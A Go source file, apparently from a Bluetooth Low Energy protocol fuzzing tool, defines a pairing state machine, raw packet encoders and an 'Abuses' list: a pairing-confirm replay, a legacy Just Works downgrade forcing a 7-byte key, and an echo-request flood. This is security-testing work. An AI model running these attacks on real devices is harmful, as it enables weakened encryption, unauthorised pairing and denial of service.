package protocol

import (
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"time"

	"bytemomo/charybdis/internal/domain"
)

// BLE session states, as driven through a bench HCI bridge.
const (
	bleStandby    State = "standby"
	bleDiscovered State = "discovered"
	bleConnected  State = "connected"
	blePairing    State = "pairing"
	blePaired     State = "paired"
)

// SMP opcodes on the LE security manager channel.
const (
	smpPairingRequest = 0x01
	smpPairingConfirm = 0x03
	l2capCIDSMP       = 0x0006
	l2capCIDSignaling = 0x0005
	l2capEchoRequest  = 0x08
)

// BLEMachine returns the state machine for BLE pairing targets.
func BLEMachine() *Definition {
	return &Definition{
		Protocol: domain.ProtocolBLE,
		Initial:  bleStandby,
		States:   []State{bleStandby, bleDiscovered, bleConnected, blePairing, blePaired},
		Legal: []Transition{
			{From: bleStandby, Event: "scan", To: bleDiscovered},
			{From: bleDiscovered, Event: "connect", To: bleConnected},
			{From: bleConnected, Event: "pair-request", To: blePairing},
			{From: blePairing, Event: "pair-confirm", To: blePaired},
			{From: bleConnected, Event: "disconnect", To: bleStandby},
			{From: blePaired, Event: "disconnect", To: bleStandby},
		},
		Events: map[string]EventSpec{
			"scan": {
				Name:   "scan",
				Encode: encodeBLEScanRequest,
				Expect: domain.RespAny,
			},
			"connect": {
				Name:   "connect",
				Encode: encodeBLEConnectInd,
				Expect: domain.RespAck,
			},
			"pair-request": {
				Name:   "pair-request",
				Encode: encodeBLEPairingRequest,
				Expect: domain.RespAck,
				Fields: []FieldSpec{
					{Name: "io-capability", Offset: 5, Size: 1},
					{Name: "authreq", Offset: 7, Size: 1},
					{Name: "max-key-size", Offset: 8, Size: 1},
				},
			},
			"pair-confirm": {
				Name:   "pair-confirm",
				Encode: encodeBLEPairingConfirm,
				Expect: domain.RespAck,
			},
			"pair-request-legacy": {
				Name:   "pair-request-legacy",
				Encode: encodeBLEPairingRequestLegacy,
				Expect: domain.RespAck,
			},
			"echo-request": {
				Name:   "echo-request",
				Encode: encodeBLEEchoRequest,
				Expect: domain.RespAny,
			},
			"disconnect": {
				Name:   "disconnect",
				Encode: func(map[string]string) ([]byte, error) { return []byte{0x02, 0x13}, nil },
				Expect: domain.RespSilence,
			},
		},
		Abuses: []AbuseSpec{
			{
				Name:     "confirm-replay",
				Category: domain.AttackReplay,
				From:     blePairing,
				Events:   []string{"pair-confirm"},
				// a confirm value captured from an earlier exchange
				Params: map[string]string{"confirm": "a0a1a2a3a4a5a6a7a8a9aaabacadaeaf"},
			},
			{
				Name:     "legacy-downgrade",
				Category: domain.AttackDowngrade,
				From:     bleConnected,
				Events:   []string{"pair-request-legacy"},
			},
			{
				Name:     "echo-flood",
				Category: domain.AttackExhaustion,
				From:     bleConnected,
				Events:   []string{"echo-request"},
				Rate:     &domain.RateSpec{Count: 1024, Interval: time.Millisecond},
			},
		},
		Dictionary: [][]byte{
			{0x07, 0x00, 0x06, 0x00, 0x01, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF},
			{0x02, 0x00, 0x06, 0x00, 0x0B, 0x00},
			{0x00, 0x00, 0x00, 0x00},
		},
	}
}

// l2capFrame wraps an LE payload in a basic L2CAP header.
func l2capFrame(cid uint16, pdu []byte) []byte {
	buf := bytes.NewBuffer(nil)
	binary.Write(buf, binary.LittleEndian, uint16(len(pdu)))
	binary.Write(buf, binary.LittleEndian, cid)
	buf.Write(pdu)
	return buf.Bytes()
}

func encodeBLEScanRequest(params map[string]string) ([]byte, error) {
	// SCAN_REQ: ScanA + AdvA
	buf := bytes.NewBuffer(nil)
	buf.Write([]byte{0xC3, 0x0C}) // PDU type 0x3, TxAdd/RxAdd random, length 12
	buf.Write([]byte{0x11, 0x22, 0x33, 0x44, 0x55, 0xC6})
	buf.Write(bleAdvAddr(params))
	return buf.Bytes(), nil
}

func encodeBLEConnectInd(params map[string]string) ([]byte, error) {
	// CONNECT_IND: InitA + AdvA + LLData. LLData carries access address,
	// CRC init, transmit window, connection interval 30ms, no latency,
	// 720ms supervision timeout, all 37 data channels, hop increment 5.
	buf := bytes.NewBuffer(nil)
	buf.Write([]byte{0xC5, 0x22})
	buf.Write([]byte{0x11, 0x22, 0x33, 0x44, 0x55, 0xC6})
	buf.Write(bleAdvAddr(params))
	binary.Write(buf, binary.LittleEndian, uint32(0x8E89BED6))
	buf.Write([]byte{0x55, 0x3A, 0x21})
	buf.WriteByte(0x02)
	for _, v := range []uint16{0x0005, 0x0018, 0x0000, 0x0048} {
		binary.Write(buf, binary.LittleEndian, v)
	}
	buf.Write([]byte{0xFF, 0xFF, 0xFF, 0xFF, 0x1F})
	buf.WriteByte(0x05)
	return buf.Bytes(), nil
}

// encodeBLEPairingRequest requests LE Secure Connections with MITM.
func encodeBLEPairingRequest(params map[string]string) ([]byte, error) {
	pdu := []byte{
		smpPairingRequest,
		0x04,       // io: keyboard+display
		0x00,       // no oob
		0b00001101, // authreq: bonding, MITM, secure connections
		16,         // max key size
		0x07,       // initiator key distribution
		0x07,       // responder key distribution
	}
	return l2capFrame(l2capCIDSMP, pdu), nil
}

// encodeBLEPairingRequestLegacy strips the SC bit and offers NoInputNoOutput,
// forcing legacy Just Works with a 7-byte key if the target accepts.
func encodeBLEPairingRequestLegacy(params map[string]string) ([]byte, error) {
	pdu := []byte{
		smpPairingRequest,
		0x03,       // io: no input no output
		0x00,       // no oob
		0b00000001, // authreq: bonding only, no MITM, no SC
		7,          // weakest permitted key size
		0x00,
		0x00,
	}
	return l2capFrame(l2capCIDSMP, pdu), nil
}

func encodeBLEPairingConfirm(params map[string]string) ([]byte, error) {
	confirm, err := hex.DecodeString(param(params, "confirm", "00112233445566778899aabbccddeeff"))
	if err != nil || len(confirm) != 16 {
		confirm = make([]byte, 16)
	}
	pdu := append([]byte{smpPairingConfirm}, confirm...)
	return l2capFrame(l2capCIDSMP, pdu), nil
}

func encodeBLEEchoRequest(params map[string]string) ([]byte, error) {
	// signaling echo with identifier 0x2A and a 4-byte probe payload
	pdu := []byte{l2capEchoRequest, 0x2A, 0x04, 0x00, 0xDE, 0xAD, 0xBE, 0xEF}
	return l2capFrame(l2capCIDSignaling, pdu), nil
}

func bleAdvAddr(params map[string]string) []byte {
	if addr, err := hex.DecodeString(param(params, "adv_addr", "c0ffee123456")); err == nil && len(addr) == 6 {
		return addr
	}
	return []byte{0xC0, 0xFF, 0xEE, 0x12, 0x34, 0x56}
}
